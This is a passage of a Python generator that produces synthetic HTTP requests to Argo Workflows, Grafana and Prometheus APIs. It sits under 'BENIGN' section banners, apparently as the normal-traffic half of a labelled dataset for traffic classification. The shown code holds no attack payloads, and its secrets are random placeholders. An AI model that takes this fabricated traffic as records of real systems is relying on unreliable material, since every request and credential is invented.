                ("postgres:16-alpine", ["sh"], "export PGPASSWORD=\"$DB_PASSWORD\"\npsql -h orders-pg-ro.data.svc -U reporter -d orders -c \"SELECT count(*) FROM orders WHERE created_at >= '{{workflow.parameters.date}}'::date\" -At > /tmp/count.txt\ncat /tmp/count.txt\n"),
                ("alpine:3.19", ["sh"], "apk add --no-cache curl jq >/dev/null\ncurl -sf http://model-registry.ml-serving.svc:8080/api/v1/models/{{inputs.parameters.model}} | jq -r '.versions[-1].uri'\n"),
            ])
            wf = {"workflow": {"metadata": {"generateName": pick(["etl-", "report-", "housekeeping-", "train-"]), "namespace": ns, "labels": {"workflows.argoproj.io/creator": pick(USERS)}},
                               "spec": {"entrypoint": "main", "serviceAccountName": "workflow-runner",
                                        "arguments": {"parameters": [{"name": "date", "value": "2024-05-%02d" % R.randint(1, 28)}, {"name": "rows", "value": str(R.randint(0, 100000))}]},
                                        "templates": [{"name": "main", "steps": [[{"name": "run", "template": "script", "arguments": {"parameters": [{"name": "rows", "value": "{{workflow.parameters.rows}}"},
                                                                                                                                                                       {"name": "namespace", "value": pick(NAMESPACES)}, {"name": "model", "value": "fraud-v3"}]}}],
                                                                                 [{"name": "notify", "template": "notify", "when": "{{steps.run.status}} == Succeeded"}]]},
                                                      {"name": "script", "inputs": {"parameters": [{"name": "rows"}, {"name": "namespace"}, {"name": "model"}]},
                                                       "script": {"image": script[0], "command": script[1], "source": script[2]}},
                                                      {"name": "notify", "http": {"url": "http://chatops.platform.svc.cluster.local:8080/notify", "method": "POST", "body": "{\"text\": \"{{workflow.name}} finished\"}",
                                                                                  "successCondition": "response.statusCode == 200"}}]}}}
            B("workflows-submit", "POST", "/api/v1/workflows/" + ns, host, wf_headers(), dumps(wf), "application/json")
        elif kind == 1:
            params = pick([["date=2024-05-%02d" % R.randint(1, 28), "db-host=orders-pg-ro.data.svc.cluster.local", "retention-days=7"],
                           ["model=fraud-v%d" % R.randint(2, 5), "epochs=20", "learning-rate=3e-4", "dataset=s3://ml-datasets/fraud/2024-04/*.parquet"],
                           ["namespace=%s" % pick(NAMESPACES), "selector=app.kubernetes.io/name in (cart-api,orders)", "dry-run=true"],
                           ["message=Deploy of cart-api 1.4.2 finished (see #deploys)", "channel=#team-atlas"]])
            body = dumps({"namespace": ns, "resourceKind": pick(["WorkflowTemplate", "ClusterWorkflowTemplate", "CronWorkflow"]), "resourceName": pick(["nightly-backup", "train-model", "cleanup-evicted-pods", "notify-slack"]),
                          "submitOptions": {"parameters": params, "labels": "submitted-from-ui=true", "entryPoint": "main"}})
            B("workflows-submit", "POST", "/api/v1/workflows/%s/submit" % ns, host, wf_headers(), body, "application/json")
        elif kind == 2:
            name = pick(["etl-", "report-", "train-"]) + rstr(5, LOWER_ALNUM)
            action = pick(["retry", "stop", "terminate", "resubmit", "suspend", "resume"])
            body_obj = {"name": name, "namespace": ns}
            if action == "retry":
                body_obj.update({"restartSuccessful": True, "nodeFieldSelector": "templateName=script,phase=Failed"})
            if action == "stop":
                body_obj["message"] = "stopped by %s: upstream outage" % pick(USERS)
            B("workflows-ops", "PUT", "/api/v1/workflows/%s/%s/%s" % (ns, name, action), host, wf_headers(), dumps(body_obj), "application/json")
        elif kind == 3:
            params = [("listOptions.labelSelector", pick(["workflows.argoproj.io/phase in (Failed,Error)", "workflows.argoproj.io/workflow-template=nightly-backup", "!workflows.argoproj.io/archive-strategy"])),
                      ("listOptions.limit", "50"), ("fields", "metadata,items.metadata.uid,items.metadata.name,items.status.phase,items.status.startedAt,items.status.finishedAt")]
            B("workflows-list", "GET", pick(["/api/v1/workflows/%s?", "/api/v1/archived-workflows?namespace=%s&"]) % ns + qs(params), host, wf_headers())
        elif kind == 4:
            name = pick(["etl-", "report-"]) + rstr(5, LOWER_ALNUM)
            if chance(0.5):
                B("workflows-logs", "GET", "/api/v1/workflows/%s/%s/log?%s" % (ns, name, qs([("logOptions.container", "main"), ("logOptions.follow", "true"), ("grep", pick(["ERROR", "Traceback", "exit code"])), ("podName", name + "-" + str(R.randint(10 ** 9, 10 ** 10)))])), host, wf_headers())
            else:
                B("workflows-logs", "GET", "/artifact-files/%s/workflows/%s/%s-%d/outputs/%s" % (ns, name, name, R.randint(10 ** 9, 10 ** 10), pick(["main-logs", "report.csv", "metrics.json"])), host, wf_headers(accept="*/*"))
        elif kind == 5:
            cwf = {"cronWorkflow": {"metadata": {"name": "pg-backup-" + pick(["orders", "ledger", "identity"]), "namespace": ns},
                                    "spec": {"schedule": pick(["0 3 * * *", "*/30 * * * *", "15 2 * * 1-5"]), "timezone": pick(["Europe/Berlin", "UTC", "America/New_York"]), "concurrencyPolicy": "Forbid",
                                             "workflowSpec": {"entrypoint": "backup", "templates": [{"name": "backup", "container": {
                                                 "image": "postgres:16-alpine", "command": ["/bin/sh", "-c"],
                                                 "args": ["pg_dump -h $PGHOST -U $PGUSER -Fc orders | gzip > /backup/orders-$(date +%F).dump.gz && aws s3 cp /backup/ s3://acme-db-backups/orders/ --recursive --exclude '*' --include '*.gz' && find /backup -mtime +7 -delete"],
                                                 "envFrom": [{"secretRef": {"name": "pg-backup-creds"}}], "volumeMounts": [{"name": "backup", "mountPath": "/backup"}]}}]}}}}
            B("workflows-cron", "POST", "/api/v1/cron-workflows/" + ns, host, wf_headers(), dumps(cwf), "application/json")
        else:
            expr_wf = {"template": {"metadata": {"name": "fan-out-" + rstr(4, LOWER_ALNUM), "namespace": ns},
                                    "spec": {"entrypoint": "main", "arguments": {"parameters": [{"name": "shards", "value": "8"}]},
                                             "templates": [{"name": "main", "steps": [[{"name": "gen", "template": "gen"}],
                                                                                      [{"name": "work", "template": "work", "arguments": {"parameters": [{"name": "shard", "value": "{{item}}"}]}, "withParam": "{{steps.gen.outputs.result}}"}],
                                                                                      [{"name": "collect", "template": "collect", "when": "{{=asInt(workflow.parameters.shards) > 1}}"}]]},
                                                           {"name": "gen", "script": {"image": "python:3.12-alpine", "command": ["python"], "source": "import json\nprint(json.dumps(list(range({{workflow.parameters.shards}}))))\n"}},
                                                           {"name": "work", "inputs": {"parameters": [{"name": "shard"}]}, "container": {"image": image(), "args": ["--shard={{inputs.parameters.shard}}", "--total={{workflow.parameters.shards}}"]}},
                                                           {"name": "collect", "container": {"image": "alpine:3.19", "command": ["sh", "-c", "ls -la /mnt/out && cat /mnt/out/*.json | wc -l"]}}]}}}
            B("workflows-template", "POST", "/api/v1/workflow-templates/" + ns, host, wf_headers(), dumps(expr_wf), "application/json")


# ===========================================================================
# BENIGN: Grafana
# ===========================================================================

def grafana_headers(accept="application/json", extra=()):
    r = R.random()
    if r < 0.55:
        h = browser_headers(accept=accept, cookie="grafana_session=%s; grafana_session_expiry=%d" % (rhex(32), 1714500000 + R.randint(0, 99999)),
                            extra=[("X-Grafana-Org-Id", str(R.choice([1, 1, 2, 3])))] + list(extra))
        if chance(0.4):
            h.append(("X-Dashboard-Uid", rstr(9)))
            h.append(("X-Panel-Id", str(R.randint(1, 30))))
        if chance(0.3):
            h.append(("X-Grafana-Device-Id", rhex(32)))
        return h
    if r < 0.8:
        return std_headers(pick(UA_TERRAFORM[:1] + UA_PY + ["grafana-operator/v5.9.0", "grizzly/0.4.3"]), auth="Bearer " + grafana_sa_token(), accept=accept, extra=extra)
    return std_headers(pick(["curl/8.7.1", "Go-http-client/1.1"]), auth="Basic " + b64("admin:" + rstr(16)), accept=accept, extra=extra)


def grafana_dashboard(title=None, text_panel=None):
    uid = rstr(9, ALNUM + "-")
    app = pick(APPS)
    title = title or pick(["%s — latency & errors" % app, "Kubernetes / Compute Resources / Namespace (Pods)", "Postgres overview (%s)" % pick(["orders", "ledger"]),
                           "SLO: checkout availability 99.9%", "Ingress NGINX — 4xx/5xx by host", "Übersicht Zahlungsdienste", "決済サービス ダッシュボード", "Vault / audit & leases",
                           "Argo CD — sync status", "Node exporter full (/proc & /sys)"])
    panels = []
    pid = 1
    for _ in range(R.randint(1, 4)):
        ds = pick(["prometheus", "loki", "postgres", "mysql"])
        if ds == "prometheus":
            target = {"refId": "A", "datasource": {"type": "prometheus", "uid": "prom"}, "expr": promql(), "legendFormat": pick(["{{pod}}", "{{namespace}}/{{pod}}", "{{route}} {{code}}", "__auto"]), "range": True}
        elif ds == "loki":
            target = {"refId": "A", "datasource": {"type": "loki", "uid": "loki"}, "expr": logql(), "queryType": "range"}
        else:
            target = {"refId": "A", "datasource": {"type": "grafana-postgresql-datasource" if ds == "postgres" else "mysql", "uid": ds + "-ro"}, "rawSql": sql_query(), "format": pick(["time_series", "table"]), "rawQuery": True}
        panels.append({"id": pid, "type": pick(["timeseries", "stat", "table", "bargauge", "logs"]), "title": pick(["p99 latency", "Error ratio", "Restarts (1h)", "Pods not ready", "Slow queries", "Log volume by level", "Fehlerrate", "Top 10 memory"]),
                       "gridPos": {"h": 8, "w": 12, "x": 12 * (pid % 2), "y": 8 * (pid // 2)}, "targets": [target],
                       "fieldConfig": {"defaults": {"unit": pick(["s", "percentunit", "bytes", "short", "reqps"]), "thresholds": {"mode": "absolute", "steps": [{"color": "green", "value": None}, {"color": "red", "value": 80}]}}, "overrides": []},
                       "options": {"legend": {"displayMode": "table", "placement": "bottom", "calcs": ["mean", "max", "lastNotNull"]}}})
        pid += 1
    if text_panel:
        panels.append({"id": pid, "type": "text", "title": "Notes", "gridPos": {"h": 10, "w": 24, "x": 0, "y": 40}, "options": {"mode": text_panel[0], "content": text_panel[1], "code": {"language": "plaintext", "showLineNumbers": False}}})
    templating = [{"name": "cluster", "type": "query", "datasource": {"type": "prometheus", "uid": "prom"}, "query": {"query": "label_values(up, cluster)", "refId": "PrometheusVariableQueryEditor-VariableQuery"}, "refresh": 2},
                  {"name": "namespace", "type": "query", "datasource": {"type": "prometheus", "uid": "prom"}, "query": "label_values(kube_pod_info{cluster=\"$cluster\"}, namespace)", "regex": "/^(payments|checkout|orders).*/", "includeAll": True, "multi": True, "allValue": ".*"},
                  {"name": "pod", "type": "query", "datasource": {"type": "prometheus", "uid": "prom"}, "query": "query_result(topk(20, sum by (pod) (rate(container_cpu_usage_seconds_total{namespace=~\"$namespace\"}[5m]))))", "regex": "/pod=\"(?<text>[^\"]+)\"/"}]
    if chance(0.4):
        templating.append({"name": "host", "type": "query", "datasource": {"type": "mysql", "uid": "mysql-ro"}, "query": "SELECT DISTINCT hostname FROM hosts WHERE env = '$env' AND decommissioned_at IS NULL"})
    if chance(0.3):
        templating.append({"name": "env", "type": "custom", "query": "prod : production,staging : staging,dev", "current": {"text": "prod", "value": "production"}})
    dash = {"id": None, "uid": uid, "title": title, "tags": R.sample(["kubernetes", "slo", "postgres", "team-atlas", "generated", "loki"], 2), "timezone": pick(["browser", "utc"]),
            "schemaVersion": 39, "version": R.randint(1, 40), "refresh": pick(["30s", "1m", "", "5m"]), "time": {"from": "now-6h", "to": "now"},
            "templating": {"list": templating}, "panels": panels,
            "annotations": {"list": [{"name": "Deploys", "datasource": {"type": "loki", "uid": "loki"}, "enable": True, "expr": "{namespace=\"argocd\"} |= \"sync\" |= \"$namespace\"", "titleFormat": "{{app}}", "textFormat": "{{message}}", "iconColor": "blue"}]},
            "links": [{"title": "Runbook", "url": "https://backstage.acme.io/docs/default/component/%s/runbooks/?ns=${namespace}&from=${__from}" % app, "type": "link", "targetBlank": True}]}
    return dash


def gen_grafana_dashboards(n):
    for i in range(n):
        host = host_for("grafana")
        kind = i % 6
        if kind in (0, 1, 2):
            text = None
            if chance(0.3):
                text = pick([("markdown", "### On-call\n* Escalation: #sre-oncall\n* Dashboards are generated from `jsonnet/` — edit there, not here.\n* Variable `$namespace` is multi-select; use `=~` in queries."),
                             ("html", "<div style=\"padding:8px\"><b>Status:</b> <a href=\"https://status.acme.io\" target=\"_blank\">status page</a> · <i>maintenance window Sun 02:00–04:00 UTC</i></div>")])
            body = dumps({"dashboard": grafana_dashboard(text_panel=text), "folderUid": rstr(14), "message": pick(["Add restart panel", "Bump thresholds after incident INC-2291", "generated by grafonnet", ""]), "overwrite": chance(0.5)})
            B("grafana-dashboard", "POST", "/api/dashboards/db", host, grafana_headers(), body, "application/json")
        elif kind == 3:
            params = [("query", pick(["", "cart", "Kubernetes / Compute", "postgres", "SLO"])), ("starred", "false"), ("limit", "50"), ("type", "dash-db")]
            if chance(0.5):
                params.append(("tag", pick(["kubernetes", "slo"])))
            if chance(0.4):
                params.append(("folderUIDs", rstr(14)))
            B("grafana-search", "GET", "/api/search?" + qs(params), host, grafana_headers())
        elif kind == 4:
            uid = rstr(9)
            if chance(0.5):
                B("grafana-dashboard", "GET", "/api/dashboards/uid/" + uid, host, grafana_headers())
            else:
                params = [("orgId", "1"), ("var-cluster", pick(CLUSTERS)), ("var-namespace", pick(NAMESPACES)), ("var-namespace", pick(NAMESPACES)), ("var-pod", "$__all"),
                          ("from", pick(["now-6h", "now-24h", str(ts_ms())])), ("to", "now"), ("refresh", "30s")]
                if chance(0.3):
                    params.append(("var-host", pick(["db-01.eu", "db-02.eu"])))
                if chance(0.3):
                    params.append(("viewPanel", str(R.randint(1, 20))))
                B("grafana-dashboard", "GET", "/d/%s/%s?%s" % (uid, pick(["cart-api-latency-and-errors", "kubernetes-compute-resources-namespace-pods", "postgres-overview"]), qs(params)), host,
                  browser_headers(accept="text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", cookie="grafana_session=" + rhex(32)))
        else:
            params = [("orgId", "1"), ("panelId", str(R.randint(1, 20))), ("width", "1000"), ("height", "500"), ("tz", pick(["Europe/Berlin", "UTC", "America/Los_Angeles"])),
                      ("var-namespace", pick(NAMESPACES)), ("from", str(ts_ms())), ("to", str(ts_ms() + 3600000))]
            B("grafana-render", "GET", "/render/d-solo/%s/%s?%s" % (rstr(9), pick(["slo-overview", "cart-api"]), qs(params)), host, grafana_headers(accept="image/png,*/*"))


def gen_grafana_datasources(n):
    for i in range(n):
        host = host_for("grafana")
        kind = i % 8
        name_sfx = pick(["", " (%s)" % pick(CLUSTERS)])
        if kind == 0:
            ds = {"name": "Prometheus" + name_sfx, "type": "prometheus", "access": "proxy", "url": pick(["http://prometheus-operated.monitoring.svc:9090", "http://thanos-query.monitoring.svc.cluster.local:9090", "http://mimir-nginx.mimir.svc/prometheus"]),
                  "jsonData": {"httpMethod": "POST", "timeInterval": "30s", "prometheusType": pick(["Prometheus", "Mimir", "Thanos"]), "exemplarTraceIdDestinations": [{"name": "trace_id", "datasourceUid": "tempo"}],
                               "httpHeaderName1": "X-Scope-OrgID"}, "secureJsonData": {"httpHeaderValue1": pick(TEAMS)}}
        elif kind == 1:
            ds = {"name": "Loki" + name_sfx, "type": "loki", "access": "proxy", "url": "http://loki-gateway.observability.svc.cluster.local",
                  "jsonData": {"maxLines": 5000, "derivedFields": [{"name": "TraceID", "matcherRegex": "(?:traceID|trace_id)=(\\w+)", "url": "${__value.raw}", "datasourceUid": "tempo"}]}}
        elif kind == 2:
            ds = {"name": "orders-pg (read-only)", "type": "grafana-postgresql-datasource", "access": "proxy", "url": "orders-pg-ro.data.svc.cluster.local:5432", "user": "grafana_ro",
                  "jsonData": {"database": "orders", "sslmode": "verify-full", "postgresVersion": 1500, "timescaledb": False, "maxOpenConns": 10, "sslRootCertFile": "/etc/ssl/certs/ca-certificates.crt"},
                  "secureJsonData": {"password": rstr(24)}}
        elif kind == 3:
            ds = {"name": "Tempo", "type": "tempo", "access": "proxy", "url": "http://tempo-query-frontend.observability.svc:3200",
                  "jsonData": {"tracesToLogsV2": {"datasourceUid": "loki", "spanStartTimeShift": "-1m", "customQuery": True, "query": "{namespace=\"${__span.tags[\"k8s.namespace.name\"]}\"} |= \"${__trace.traceId}\""},
                               "serviceMap": {"datasourceUid": "prom"}, "nodeGraph": {"enabled": True}}}
        elif kind == 4:
            ds = {"name": "Alertmanager", "type": "alertmanager", "access": "proxy", "url": "http://alertmanager-operated.monitoring.svc:9093",
                  "jsonData": {"implementation": "prometheus", "handleGrafanaManagedAlerts": False}}
        elif kind == 5:
            ds = {"name": "Elasticsearch logs", "type": "elasticsearch", "access": "proxy", "url": "https://opensearch-cluster-master.logging.svc:9200",
                  "jsonData": {"index": "logs-k8s-*", "timeField": "@timestamp", "logMessageField": "message", "logLevelField": "level", "tlsSkipVerify": False}, "basicAuth": True, "basicAuthUser": "grafana"}
        elif kind == 6:
            ds = {"name": "Infinity (OpenCost)", "type": "yesoreyeram-infinity-datasource", "access": "proxy", "url": "http://opencost.opencost.svc:9003",
                  "jsonData": {"allowedHosts": ["http://opencost.opencost.svc:9003"], "auth_method": "none"}}
        else:
            uid = rstr(14)
            B("grafana-datasource", "GET", "/api/datasources/uid/%s/health" % uid, host, grafana_headers())
            continue
        B("grafana-datasource", pick(["POST", "POST", "PUT"]), "/api/datasources" if chance(0.7) else "/api/datasources/uid/" + rstr(14), host, grafana_headers(), dumps(ds), "application/json")


def gen_grafana_dsquery(n):
    for i in range(n):
        host = host_for("grafana")
        kind = i % 5
        frm = ts_ms()
        to = frm + R.choice([3600000, 21600000, 86400000])
        if kind in (0, 1):
            q = {"refId": "A", "datasource": {"type": "prometheus", "uid": pick(["prom", "thanos", "mimir"])}, "expr": promql(), "range": True, "instant": False,
                 "interval": "", "maxDataPoints": R.choice([600, 1200, 1897]), "intervalMs": R.choice([15000, 30000, 60000]), "legendFormat": "__auto", "exemplar": chance(0.3),
                 "utcOffsetSec": R.choice([0, 7200, -25200])}
        elif kind == 2:
            q = {"refId": "A", "datasource": {"type": "loki", "uid": "loki"}, "expr": logql(), "queryType": "range", "maxLines": 1000, "legendFormat": "", "editorMode": "code"}
        elif kind == 3:
            q = {"refId": "A", "datasource": {"type": pick(["grafana-postgresql-datasource", "mysql", "mssql", "grafana-clickhouse-datasource"]), "uid": rstr(9)},
                 "rawSql": sql_query(), "format": pick(["time_series", "table"]), "rawQuery": True, "editorMode": "code", "sql": {"columns": [{"type": "function", "parameters": []}], "limit": 50}}
        else:
            q = {"refId": "A", "datasource": {"type": "tempo", "uid": "tempo"}, "queryType": "traceql", "query": traceql(), "limit": 20, "tableType": "traces"}
        queries = [q]
        if chance(0.25):
            queries.append({"refId": "B", "datasource": {"type": "__expr__", "uid": "__expr__"}, "type": "math", "expression": "$A * 100"})
        body = dumps({"queries": queries, "from": str(frm), "to": str(to)}, "compact")
        uri = "/api/ds/query" + pick(["", "?ds_type=" + q["datasource"]["type"], "?ds_type=%s&requestId=%s" % (q["datasource"]["type"], "Q" + str(R.randint(100, 999)))])
        B("grafana-dsquery", "POST", uri, host, grafana_headers(), body, "application/json")


def gen_grafana_alerting(n):
    for i in range(n):
        host = host_for("grafana")
        kind = i % 5
        app = pick(APPS)
        if kind in (0, 1):
            rule = {"title": pick(["High 5xx ratio on %s", "%s p99 latency > 1s", "Pod restarts for %s", "%s: DB connections saturated"]) % app, "ruleGroup": "slo-" + pick(TEAMS), "folderUID": rstr(14),
                    "condition": "C", "for": pick(["5m", "10m", "2m"]), "noDataState": "NoData", "execErrState": "Error",
                    "data": [{"refId": "A", "relativeTimeRange": {"from": 600, "to": 0}, "datasourceUid": "prom", "model": {"expr": promql(), "refId": "A", "instant": True}},
                             {"refId": "B", "datasourceUid": "__expr__", "model": {"type": "reduce", "expression": "A", "reducer": "last", "refId": "B"}},
                             {"refId": "C", "datasourceUid": "__expr__", "model": {"type": "threshold", "expression": "B", "conditions": [{"evaluator": {"type": "gt", "params": [0.05]}}], "refId": "C"}}],
                    "labels": {"severity": pick(["critical", "warning"]), "team": pick(TEAMS)},
                    "annotations": {"summary": "{{ $labels.service }} error ratio is {{ humanizePercentage $values.B.Value }}",
                                    "description": "{{ with $values.A }}{{ .Labels.namespace }}/{{ .Labels.pod }}: {{ .Value | printf \"%.2f\" }}{{ end }}\nCheck `kubectl -n {{ $labels.namespace }} logs deploy/{{ $labels.service }} --since=15m | grep -i error`",
                                    "runbook_url": "https://backstage.acme.io/docs/default/component/%s/runbooks/high-error-ratio/" % app}}
            B("grafana-alert-rule", pick(["POST", "PUT"]), "/api/v1/provisioning/alert-rules" + pick(["", "/" + rstr(14)]), host, grafana_headers(extra=[("X-Disable-Provenance", "true")] if chance(0.5) else []), dumps(rule), "application/json")
        elif kind == 2:
            cp_type = pick(["slack", "webhook", "email", "pagerduty"])
            if cp_type == "slack":
                settings = {"url": "https://hooks.slack.com/services/T%s/B%s/%s" % (rstr(8, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), rstr(10, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), rstr(24)),
                            "title": "{{ template \"slack.title\" . }}", "text": "{{ range .Alerts.Firing }}*{{ .Labels.alertname }}* on `{{ .Labels.namespace }}`\n{{ .Annotations.summary }}\n{{ end }}{{ if .Alerts.Resolved }}:white_check_mark: {{ len .Alerts.Resolved }} resolved{{ end }}"}
            elif cp_type == "webhook":
                settings = {"url": pick(["http://alert-router.platform.svc.cluster.local:8080/grafana", "http://karma.monitoring.svc:8080/hook", "http://chatops-bot.platform.svc:3000/hooks/grafana"]),
                            "httpMethod": "POST", "maxAlerts": "20", "authorization_scheme": "Bearer", "authorization_credentials": rstr(32)}
            elif cp_type == "email":
                settings = {"addresses": "%s@acme.io;sre-oncall@acme.io" % pick(TEAMS), "singleEmail": True, "subject": "[{{ .Status | toUpper }}] {{ .CommonLabels.alertname }} ({{ len .Alerts }})"}
            else:
                settings = {"integrationKey": rhex(32), "severity": "{{ .CommonLabels.severity }}", "class": "kubernetes", "component": "{{ .CommonLabels.service }}", "group": "{{ .CommonLabels.namespace }}"}
            body = dumps({"name": "%s-%s" % (pick(TEAMS), cp_type), "type": cp_type, "settings": settings, "disableResolveMessage": False})
            B("grafana-contact-point", "POST", "/api/v1/provisioning/contact-points", host, grafana_headers(), body, "application/json")
        elif kind == 3:
            tmpl = pick([
                "{{ define \"slack.title\" }}[{{ .Status | toUpper }}{{ if eq .Status \"firing\" }}:{{ .Alerts.Firing | len }}{{ end }}] {{ .CommonLabels.alertname }}{{ end }}",
                "{{ define \"teams.body\" }}{{ range .Alerts }}**{{ .Labels.alertname }}** ({{ .Labels.severity }})\n> {{ .Annotations.description }}\n[Silence]({{ .SilenceURL }}) · [Dashboard]({{ .DashboardURL }})\n{{ end }}{{ end }}",
                "{{ define \"email.subject\" }}{{ if gt (len .Alerts.Firing) 0 }}🔥 {{ len .Alerts.Firing }} firing{{ end }}{{ if gt (len .Alerts.Resolved) 0 }} ✅ {{ len .Alerts.Resolved }} resolved{{ end }}{{ end }}",
                "{{ define \"labels.list\" }}{{ range $k, $v := .Labels }}{{ if not (match \"^(__.*|grafana_folder)$\" $k) }}{{ $k }}={{ $v }} {{ end }}{{ end }}{{ end }}",
            ])
            B("grafana-template", "PUT", "/api/v1/provisioning/templates/" + pick(["slack", "teams", "email", "labels"]), host, grafana_headers(), dumps({"template": tmpl}), "application/json")
        else:
            policy = {"receiver": "sre-slack", "group_by": ["grafana_folder", "alertname"], "routes": [
                {"receiver": "%s-pagerduty" % t, "object_matchers": [["team", "=", t], ["severity", "=~", "critical|page"]], "continue": False, "group_wait": "30s"} for t in R.sample(TEAMS, 2)] +
                [{"receiver": "blackhole", "object_matchers": [["alertname", "=", "Watchdog"]]}, {"receiver": "sre-slack", "object_matchers": [["namespace", "!~", "kube-.*|cert-manager"]], "mute_time_intervals": ["weekend-nights"]}]}
            B("grafana-notification-policy", "PUT", "/api/v1/provisioning/policies", host, grafana_headers(), dumps(policy), "application/json")


def gen_grafana_annotations(n):
    for i in range(n):
        host = host_for("grafana")
        app = pick(APPS)
        if i % 4 == 3:
            params = [("from", str(ts_ms())), ("to", str(ts_ms() + 86400000)), ("limit", "100"), ("matchAny", "false"), ("dashboardUID", rstr(9))]
            if chance(0.6):
                params += [("tags", "deploy"), ("tags", app)]
            B("grafana-annotation", "GET", "/api/annotations?" + qs(params), host, grafana_headers())
            continue
        text = pick([
            "Deployed %s %s (<a href=\"https://github.com/acme/%s/compare/v1.4.1...v1.4.2\">changelog</a>)" % (app, "v1.4.2", app),
            "Rolled back via `kubectl rollout undo deploy/%s -n %s` after 5xx spike" % (app, pick(NAMESPACES)),
            "Argo CD sync %s → %s: Succeeded (prune=true)" % (app, rhex(7)),
            "Postgres failover: orders-pg-1 promoted; `SELECT pg_is_in_recovery();` returned f on new primary",
            "Wartungsfenster: Knoten-Upgrade auf 1.29 – Ausfälle erwartet",
            "Chaos experiment: pod-kill on %s (litmus) 🧪" % app,
            "Feature flag `checkout.newPricing` enabled for 10% of tenants",
            "Vault lease revoke-prefix database/creds/%s-ro executed by %s" % (app, pick(USERS)),
        ])
        body = dumps({"dashboardUID": rstr(9), "panelId": R.randint(1, 20), "time": ts_ms(), "timeEnd": ts_ms() if chance(0.3) else None,
                      "tags": ["deploy", app, pick(CLUSTERS)], "text": text})
        ua = None
        if chance(0.4):
            hdrs = std_headers(pick(UA_ARGOCD[:1] + ["argocd-notifications-controller", "GitHub-Actions/grafana-annotation", "Tekton/grafana-annotate"] + UA_PY), auth="Bearer " + grafana_sa_token())
        else:
            hdrs = grafana_headers()
        B("grafana-annotation", "POST", "/api/annotations", host, hdrs, body, "application/json")


def gen_grafana_misc(n):
    for i in range(n):
        host = host_for("grafana")
        k = i % 4
        if k == 0:
            body = form([("user", pick(USERS)), ("password", rstr(14, ALNUM + "!$%&"))]) if chance(0.3) else None
            if body:
                B("grafana-login", "POST", "/login", host, browser_headers(accept="application/json"), body, "application/x-www-form-urlencoded")
            else:
                B("grafana-login", "POST", "/login", host, browser_headers(), dumps({"user": pick(USERS), "password": rstr(16)}), "application/json")
        elif k == 1:
            B("grafana-prefs", "PUT", "/api/user/preferences", host, grafana_headers(), dumps({"theme": pick(["dark", "light", "system"]), "homeDashboardUID": rstr(9), "timezone": pick(["browser", "Europe/Berlin", "utc"]), "weekStart": pick(["monday", "sunday"]), "language": pick(["en-US", "de-DE", "ja-JP"])}), "application/json")
        elif k == 2:
            body = dumps({"events": [{"name": "dashboard_view", "tags": {"uid": rstr(9)}, "time": ts_ms()}], "measurements": [{"type": "web-vitals", "values": {"lcp": R.randint(800, 3000), "cls": 0.02}}]})
            B("grafana-frontend", "POST", "/api/frontend-metrics", host, grafana_headers(), body, "application/json")
        else:
            B("grafana-proxy", "GET", "/api/datasources/proxy/uid/%s/api/v1/label/namespace/values?%s" % (rstr(9), qs([("match[]", 'kube_pod_info{cluster="%s"}' % pick(CLUSTERS)), ("start", str(ts_ms() // 1000)), ("end", str(ts_ms() // 1000 + 3600))])), host, grafana_headers())


# ===========================================================================
# BENIGN: Prometheus + Alertmanager
# ===========================================================================

def gen_prometheus(n):
    for i in range(n):
        host = host_for("prometheus")
        k = i % 9
        now = 1714500000 + R.randint(0, 2000000)
        ua = pick(UA_GRAFANA + UA_GO + UA_PY + ["promtool/2.51.2", "keda-operator/2.14", "prometheus-adapter/0.11", "kube-prometheus-stack-admission-webhook"] + UA_BROWSERS[:2])
        hdrs = std_headers(ua, auth=pick([None, None, bearer(sa_token("monitoring", "grafana"))]), accept="application/json, text/plain, */*")
        plus = ua.startswith("Go") or ua.startswith("Grafana") or ua.startswith("prom")
        if k in (0, 1, 2):
            p = [("query", promql()), ("time", "%d.%03d" % (now, R.randint(0, 999)))]
            if chance(0.3):
                p.append(("timeout", "30s"))
            B("prometheus-query", "GET", "/api/v1/query?" + qs(p, plus=plus), host, hdrs)
        elif k in (3, 4):
            p = [("query", promql()), ("start", str(now - 21600)), ("end", str(now)), ("step", pick(["15", "30s", "60", "5m"]))]
            B("prometheus-query", "GET", "/api/v1/query_range?" + qs(p, plus=plus), host, hdrs)
        elif k == 5:
            p = [("query", promql()), ("start", str(now - 3600)), ("end", str(now)), ("step", "15")]
            B("prometheus-query", "POST", "/api/v1/query_range" if chance(0.6) else "/api/v1/query", host,
              std_headers(pick(UA_GRAFANA), accept="application/json, text/plain, */*", extra=[("X-Grafana-Org-Id", "1"), ("X-Dashboard-Uid", rstr(9))]), form(p), "application/x-www-form-urlencoded")
        elif k == 6:
            p = [("match[]", pick(['up{job=~"kube-.*"}', '{__name__=~"http_requests_total|http_server_.*", namespace="%s"}' % pick(NAMESPACES), 'kube_pod_info{node!=""}'])), ("start", str(now - 3600)), ("end", str(now))]
            B("prometheus-series", "GET", pick(["/api/v1/series?", "/api/v1/labels?", "/api/v1/label/namespace/values?", "/federate?"]) + qs(p, plus=plus), host, hdrs)
        elif k == 7:
            B("prometheus-meta", "GET", pick(["/api/v1/rules?type=alert&exclude_alerts=false", "/api/v1/rules?" + qs([("rule_group[]", "kubernetes-apps"), ("file[]", "/etc/prometheus/rules/prometheus-k8s-rulefiles-0/monitoring-kubernetes-apps.yaml")]),
                                              "/api/v1/targets?state=active&scrapePool=" + enc("serviceMonitor/monitoring/kube-state-metrics/0"), "/api/v1/status/buildinfo", "/api/v1/metadata?metric=http_requests_total&limit=5",
                                              "/api/v1/alerts", "/api/v1/status/tsdb?limit=10", "/-/ready", "/api/v1/query_exemplars?" + qs([("query", 'histogram_quantile(0.99, rate(http_server_duration_seconds_bucket[5m]))'), ("start", str(now - 3600)), ("end", str(now))])]), host, hdrs)
        else:
            p = [("match[]", '{job="kubelet", metrics_path="/metrics/cadvisor"}'), ("match[]", '{__name__=~"job:.*"}')]
            B("prometheus-series", "GET", "/federate?" + qs(p, plus=True), host, std_headers(pick(UA_PROMETHEUS), accept="application/openmetrics-text;version=1.0.0,text/plain;version=0.0.4;q=0.5,*/*;q=0.1"))


def am_alert(ns=None):
    ns = ns or pick(NAMESPACES)
    app = pick(APPS)
